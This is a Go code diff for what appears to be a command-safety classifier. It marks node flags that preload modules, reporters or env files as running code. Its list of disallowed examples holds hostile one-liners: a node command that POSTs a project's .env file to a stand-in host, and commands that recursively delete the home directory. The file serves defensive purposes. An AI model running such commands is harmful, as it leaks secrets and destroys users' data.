@@ -119,15 +119,20 @@ var shellPrograms = []Program{
 	// directories of them, that node runs (RunsOperands).
 	{Name: "node", Aliases: names("nodejs"), Effects: fx(OpaqueLow), Operands: Script, Special: SpecialInterpreter, RunsOperands: true,
 		Why: "node runs the script it is given",
-		Flags: fl(inline("-e", "--eval", "-p", "--print"), arg("-r", "--require", "--import", "--loader", "--experimental-loader", "--conditions", "-C",
-			"--input-type", "--stack-size", "--title"),
-			rpath("--env-file", "--env-file-if-exists"),
+		// The modules -r/--import/--loader preload and a test reporter are
+		// code node runs before the script or the tests; an env file may
+		// set NODE_OPTIONS, which preloads more (`node --test --import
+		// /tmp/x.mjs`, `node --env-file=/tmp/e --test`).
+		Flags: fl(inline("-e", "--eval", "-p", "--print"), code("-r", "--require", "--import", "--loader", "--experimental-loader", "--test-reporter"),
+			arg("--conditions", "-C", "--input-type", "--stack-size", "--title"),
+			code("--env-file", "--env-file-if-exists"),
 			Flag{Names: names("--test"), Replace: true, Effects: fx(Verify), Examples: ex("node --test test/", "node --test test/a.test.js")},
 			Flag{Names: names("-c", "--check"), Replace: true, Effects: fx(Read), Examples: ex("node --check src/a.js")}),
 		Examples:   ex("node scripts/build.js", "node --env-file=.env.example server.js"),
 		ShellCalls: nodeShellCalls, DeleteCalls: nodeDeleteCalls, HomeExprs: nodeHomeExprs, NetCalls: nodeNetCalls,
 		NotExamples: ex(`node -e 'fetch("https://x.example", {method: "POST", body: require("fs").readFileSync(".env")})'`, `node -e 'require("fs").rmSync(require("os").homedir(), {recursive: true})'`, "node -e 'console.log(1)'", "node -p 1+1", "node /tmp/x.js",
-			`node -e 'require("child_process").execSync("rm -rf ~")'`, "node --test /tmp/x.js", "node --test ../t")},
+			`node -e 'require("child_process").execSync("rm -rf ~")'`, "node --test /tmp/x.js", "node --test ../t",
+			"node --test --import /tmp/x.mjs", "node -r /tmp/x.js server.js", "node --test --test-reporter=/tmp/r.mjs", "node --env-file=/tmp/e --test")},
 	{Name: "osascript", Effects: fx(OpaqueLow), Operands: Script, Special: SpecialInterpreter, Flags: fl(inline("-e"), arg("-l", "-s")),
 		Why: "osascript runs the AppleScript it is given", Examples: ex("osascript scripts/notify.scpt"),
 		NotExamples: ex(`osascript -e 'display dialog "x"'`)},
